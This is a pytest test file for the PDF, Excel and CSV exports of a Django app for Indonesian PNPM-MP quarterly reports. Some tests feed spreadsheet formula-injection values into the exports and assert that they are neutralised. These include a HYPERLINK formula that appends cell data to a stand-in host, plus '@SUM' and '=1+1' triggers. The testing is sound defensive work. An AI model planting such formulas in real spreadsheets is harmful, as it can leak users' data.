import copy
import csv
import io
import re
import zipfile
from xml.etree import ElementTree

import openpyxl
import pytest
from django.urls import reverse
from pypdf import PdfReader

from actors.models import Province
from documents.services import document_of, read
from reports import exports, national, services
from tests.reports.conftest import CONSTRAINT, PROBLEM, content, report_of

pytestmark = pytest.mark.django_db


@pytest.fixture
def version(slots, tk_member):
    report = report_of("tk-triwulan")
    values = content(report, kemajuan="Kemajuan triwulan ketiga.\n" + "Baris kemajuan yang panjang. " * 400)
    services.do_save_draft(user=tk_member, report=report, **values)
    return services.do_submit_report(user=tk_member, report=report)


def pdf_text(content_bytes):
    reader = PdfReader(io.BytesIO(content_bytes))
    return reader, "\n".join(page.extract_text() for page in reader.pages)


def test_the_pdf_is_an_official_document_with_the_reports_problems(version, gubernur_office, login):
    response = login(gubernur_office).get(reverse("reports:version_pdf", args=[version.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith('attachment; filename="tk-triwulan-jawa-tengah-2026-q3-v1.pdf')
    reader, text = pdf_text(response.content)
    assert len(reader.pages) >= 2
    assert "LAPORAN TRIWULAN TIM KOORDINASI PNPM MANDIRI PERDESAAN PROVINSI" in flat(text)
    assert "Triwulan III 2026" in text
    assert PROBLEM in text and CONSTRAINT in text
    assert "Kabupaten Cilacap" in text and "Tarisi" in text
    assert "Semarang, Senin, 5 Oktober 2026" in text and "Drs. Budi Santoso" in text
    assert "Tembusan" in text and "TK PNPM-MP Pusat" in text
    for page in reader.pages:  # version and submission time on every page
        assert "Versi 1 · dikirim 5 Oktober 2026, 10.00 WIB" in page.extract_text()


def test_the_assessment_table_opens_in_excel(version, seknas_user, login):
    response = login(seknas_user).get(reverse("reports:version_excel", args=[version.pk]))
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    header = rows.index(["No.", "Tingkat", "Kode wilayah", "Nama wilayah", "Penilaian", "Catatan"])
    assert rows[header + 1] == [1, "Kabupaten/Kota", "33.01", "Kabupaten Cilacap", "Baik", "Tepat"]
    assert rows[header + 2][3:5] == ["Tarisi — Kec. Wanareja, Kab. Cilacap", "Kurang"]


def test_the_pdf_is_in_indonesian_even_for_an_english_reader(version, tk_member, login):
    c = login(tk_member)
    c.post("/i18n/setlang/", {"language": "en", "next": "/"})
    _reader, text = pdf_text(c.get(reverse("reports:version_pdf", args=[version.pk])).content)
    assert "Halaman 1" in text and "Kepada Yth." in text


def test_text_outside_latin_1_does_not_break_the_pdf(slots, tk_member, login):
    report = report_of("tk-triwulan")
    services.do_save_draft(
        user=tk_member, report=report, **content(report, rekomendasi="“Kutipan” — 中文 ✓ <b>bukan markup</b> & co")
    )
    version = services.do_submit_report(user=tk_member, report=report)
    _reader, text = pdf_text(login(tk_member).get(reverse("reports:version_pdf", args=[version.pk])).content)
    assert "<b>bukan markup</b> & co" in text


# --- issue 17: a PDF an official signs, spreadsheets that are safe and open right ---

TYPED = "Muḥammad Ṣāliḥ — Łukasz Đorđević ǅ “kutip” ‘satu’ luas ≥ 2 km² ± 5% – selesai"


def submitted(tk_member, type_code="tk-triwulan", **texts):
    report = report_of(type_code)
    values = content(report, **texts)
    assessment = texts.pop("_assessment", None)
    if assessment is not None:
        values["assessment"] = assessment
    services.do_save_draft(user=tk_member, report=report, **values)
    return services.do_submit_report(user=tk_member, report=report)


def as_if(version, **changes):
    """The same version with another snapshot, in memory only (versions are immutable)."""
    other = copy.copy(version)
    other.snapshot = {**copy.deepcopy(version.snapshot), **changes}
    return other


def flat(text):
    return " ".join(text.split())


def test_the_pdf_prints_every_letter_people_type_and_pages_say_x_of_y(slots, tk_member, login):
    version = submitted(tk_member, rekomendasi=TYPED, kemajuan="Kemajuan. " * 900)
    reader, text = pdf_text(login(tk_member).get(reverse("reports:version_pdf", args=[version.pk])).content)
    assert "Muḥammad" in text and "≥" in text and "“kutip”" in text
    assert TYPED in flat(text)
    total = len(reader.pages)
    assert total >= 2
    for n, page in enumerate(reader.pages, start=1):
        assert f"Halaman {n} dari {total}" in page.extract_text()


def fonts_of(reader):
    """Every font object used by the pages and the forms they draw."""
    found, seen = [], set()

    def walk(resources):
        resources = resources.get_object() if resources is not None else {}
        for font in (resources.get("/Font") or {}).values():
            font = font.get_object()
            if id(font) not in seen:
                seen.add(id(font))
                found.append(font)
        for xobject in (resources.get("/XObject") or {}).values():
            xobject = xobject.get_object()
            if xobject.get("/Subtype") == "/Form":
                walk(xobject.get("/Resources"))

    for page in reader.pages:
        walk(page.get("/Resources"))
    return found


def test_every_font_in_the_pdf_is_embedded(version, tk_member, login):
    reader, _text = pdf_text(login(tk_member).get(reverse("reports:version_pdf", args=[version.pk])).content)
    fonts = fonts_of(reader)
    assert fonts
    for font in fonts:
        descendants = [d.get_object() for d in font.get("/DescendantFonts", [])] or [font]
        for f in descendants:
            descriptor = f.get("/FontDescriptor")
            assert descriptor is not None, f"{font['/BaseFont']} is not embedded"
            descriptor = descriptor.get_object()
            assert {"/FontFile", "/FontFile2", "/FontFile3"} & set(descriptor.keys()), font["/BaseFont"]


def signature_page(content_bytes):
    reader = PdfReader(io.BytesIO(content_bytes))
    pages = [page.extract_text() for page in reader.pages]
    return next(page for page in pages if "Drs. Budi Santoso" in page)


@pytest.mark.parametrize("shape", ["lines", "one paragraph"])
def test_the_signature_block_never_stands_alone_on_a_page(slots, tk_member, shape):
    """Whatever the length of the report, the page with the signature and the
    Tembusan also holds the end of the body (lengths swept across a page)."""
    version = submitted(tk_member)
    snap = version.snapshot
    for n in range(40, 130, 3):
        if shape == "lines":
            closing = "\n".join(f"Penutup baris {i}." for i in range(n))
        else:
            closing = "Penutup kalimat panjang. " * (n * 4)
        sections = [dict(s) for s in snap["sections"]]
        sections[-1]["text"] = closing
        page = signature_page(exports.version_pdf(as_if(version, sections=sections, evidence=[], attachments=[])))
        # Some of the closing text: a whole line, or the last words of the paragraph.
        assert "Penutup" in page or "kalimat panjang." in page, f"{shape}, {n}: the signature is alone on its page"
        assert "Tembusan" in page and "TK PNPM-MP Pusat" in page


def test_periods_are_in_words_even_for_a_version_that_kept_the_key(version):
    older = as_if(version, period_label="2026-Q3")  # a version made before period_label
    reader = PdfReader(io.BytesIO(exports.version_pdf(older)))
    first = reader.pages[0].extract_text()
    assert "2026-Q3" not in "".join(page.extract_text() for page in reader.pages)
    assert "Triwulan III 2026" in first
    assert "Laporan triwulan TK PNPM-MP Provinsi Triwulan III 2026 · Versi 1" in reader.pages[-1].extract_text()
    assert reader.metadata.title.endswith("Triwulan III 2026")
    book = openpyxl.load_workbook(io.BytesIO(exports.version_assessment_xlsx(older)))
    assert book.sheetnames == ["Penilaian Triwulan III 2026", "Buku tugas"]
    assert book.active["A1"].value.endswith("Triwulan III 2026")


def test_a_missing_font_gives_the_friendly_page_naming_the_package(slots, tk_member, login, settings, tmp_path):
    # The font is missing when the version is submitted: the submission
    # stands, its document waits; the download says what to install...
    font_dir, settings.PDF_FONT_DIR = settings.PDF_FONT_DIR, tmp_path
    version = submitted(tk_member)
    assert document_of(version) is None
    response = login(tk_member).get(reverse("reports:version_pdf", args=[version.pk]))
    assert response.status_code == 503
    page = response.content.decode()
    assert "Ekspor tidak tersedia" in page and "fonts-dejavu-core" in page and "DejaVuSans.ttf" in page
    assert "Traceback" not in page
    assert document_of(version) is None
    # ...and once the font is back, the first download issues it.
    settings.PDF_FONT_DIR = font_dir
    response = login(tk_member).get(reverse("reports:version_pdf", args=[version.pk]))
    assert response.status_code == 200
    assert response.content == read(document_of(version))


SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def worksheets(data):
    """The parsed XML of every worksheet of an xlsx file."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        return [ElementTree.fromstring(archive.read(n)) for n in names]


FORMULA = '=HYPERLINK("http://example.invalid/"&A1,"Klik")'


def test_a_formula_typed_in_an_assessment_row_stays_text_in_excel(slots, tk_member, seknas_user, login):
    rows = [
        {"level": "kabupaten", "unit": "33.01", "rating": "baik", "note": FORMULA},
        {"level": "desa", "unit": "33.01.15.2001", "rating": "kurang", "note": "@SUM(A1:A9)"},
        {"level": "kecamatan", "unit": "33.01.15", "rating": "kurang", "note": "+62 812"},
        {"level": "desa", "unit": "33.01.15.2002", "rating": "baik", "note": "#N/A"},
    ]
    version = submitted(tk_member, _assessment=rows)
    data = login(seknas_user).get(reverse("reports:version_excel", args=[version.pk])).content
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}
    for value in (FORMULA, "@SUM(A1:A9)", "+62 812", "#N/A"):
        assert cells[value].data_type == "s", value
    assert cells[FORMULA].quotePrefix and cells["+62 812"].quotePrefix
    sheets = worksheets(data)  # the assessment table, then the frozen ledger
    for xml in sheets:
        assert not list(xml.iter(f"{{{SHEET_NS}}}f"))  # no formula element anywhere
    xml = sheets[0]
    # openpyxl writes text as inline strings: the formula is the text of a string cell.
    assert FORMULA in ["".join(c.itertext()) for c in xml.iter(f"{{{SHEET_NS}}}c") if c.get("t") == "inlineStr"]


def test_control_characters_in_a_version_do_not_break_its_exports(slots, tk_member, login):
    rows = [
        {"level": "kabupaten", "unit": "33.01", "rating": "baik", "note": "Cila\x1bcap"},
        {"level": "kecamatan", "unit": "33.01.15", "rating": "baik", "note": "a\x0bb"},
    ]
    version = submitted(tk_member, _assessment=rows, kemajuan="Baris\x0bsatu\x1b[0m dua")
    c = login(tk_member)
    response = c.get(reverse("reports:version_excel", args=[version.pk]))
    assert response.status_code == 200
    values = [
        cell.value for row in openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row
    ]
    assert "Cilacap" in values and "a\nb" in values
    response = c.get(reverse("reports:version_pdf", args=[version.pk]))
    assert response.status_code == 200
    _reader, text = pdf_text(response.content)
    assert "Baris\nsatu[0m dua" in text and "Cilacap" in text


def national_csv(client, **params):
    response = client.get(reverse("reports:national_csv"), {"tahun": 2026, **params})
    assert response.status_code == 200
    assert response.content.startswith("\ufeff".encode())
    return response, list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_the_national_csv_is_one_semicolon_table_per_report_type(slots, tk_member, seknas_user, login):
    submitted(tk_member)
    c = login(seknas_user)
    page = c.get(reverse("reports:national"), {"tahun": 2026}).content.decode()
    links = re.findall(r'href="(/nasional/matriks\.csv\?[^"]*)"', page)
    codes = [t.code for t in national.periodic_types()]
    assert len(codes) >= 2 and len(links) == len(codes)
    for code, link in zip(codes, links, strict=True):
        assert link.endswith(f"jenis={code}")
        response = c.get(link.replace("&amp;", "&"))
        assert response["Content-Disposition"] == f'attachment; filename="matriks-{code}-2026.csv"'
    response, rows = national_csv(c, jenis="tk-triwulan")
    assert rows[0][:6] == [
        "Kode",
        "Provinsi",
        "Triwulan I 2026",
        "Triwulan II 2026",
        "Triwulan III 2026",
        "Triwulan IV 2026",
    ]
    assert all(len(row) == len(rows[0]) for row in rows)  # one table: no title row, no second table
    jateng = next(r for r in rows if r[1] == "Jawa Tengah")
    assert jateng[4] == "Dikirim tepat waktu" and jateng[-2:] == ["100", "100"]
    assert rows[-1][1] == "Nasional"
    assert len(rows) == 1 + 38 + 1
    # The page's filter stays on the links: only Jawa Tengah.
    page = c.get(reverse("reports:national"), {"tahun": 2026, "provinsi": "33"}).content.decode()
    link = re.findall(r'href="(/nasional/matriks\.csv\?[^"]*)"', page)[0].replace("&amp;", "&")
    rows = list(csv.reader(io.StringIO(c.get(link).content.decode("utf-8-sig")), delimiter=";"))
    assert [r[1] for r in rows[1:]] == ["Jawa Tengah", "Nasional"]


def test_a_name_that_looks_like_a_formula_is_neutralised_in_csv_and_excel(slots, seknas_user, login):
    Province.objects.filter(code="33").update(name=FORMULA)
    c = login(seknas_user)
    _response, rows = national_csv(c, jenis="tk-triwulan", provinsi="33")
    assert rows[1][1] == "'" + FORMULA
    data = c.get(reverse("reports:national_xlsx"), {"tahun": 2026, "provinsi": "33"}).content
    book = openpyxl.load_workbook(io.BytesIO(data))
    cell = book["tk-triwulan"]["B3"]
    assert cell.value == FORMULA and cell.data_type == "s"
    assert all(not list(xml.iter(f"{{{SHEET_NS}}}f")) for xml in worksheets(data))


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_csv_cells_a_spreadsheet_would_run_get_a_quote(value):
    assert exports.csv_cell(value) == "'" + value
    assert exports.csv_cell("Jawa Tengah") == "Jawa Tengah" and exports.csv_cell(100) == 100


def test_sheet_titles_are_valid_excel_names():
    assert exports.sheet_title("Nilai [Triwulan] III/2026: *?") == "Nilai -Triwulan- III-2026- --"
    assert len(exports.sheet_title("x" * 40)) == 31


def test_every_export_is_a_private_download_no_cache_keeps(version, seknas_user, login):
    c = login(seknas_user)
    exports_ = {
        "pdf": c.get(reverse("reports:version_pdf", args=[version.pk])),
        "xlsx": c.get(reverse("reports:version_excel", args=[version.pk])),
        "csv": c.get(reverse("reports:national_csv"), {"tahun": 2026, "jenis": "tk-triwulan"}),
        "matrix xlsx": c.get(reverse("reports:national_xlsx"), {"tahun": 2026}),
    }
    for kind, response in exports_.items():
        assert response.status_code == 200, kind
        assert response["Content-Disposition"].startswith("attachment;"), kind
        assert response["X-Content-Type-Options"] == "nosniff", kind
        directives = {d.strip() for d in response["Cache-Control"].split(",")}
        assert {"private", "no-store"} <= directives, (kind, response["Cache-Control"])
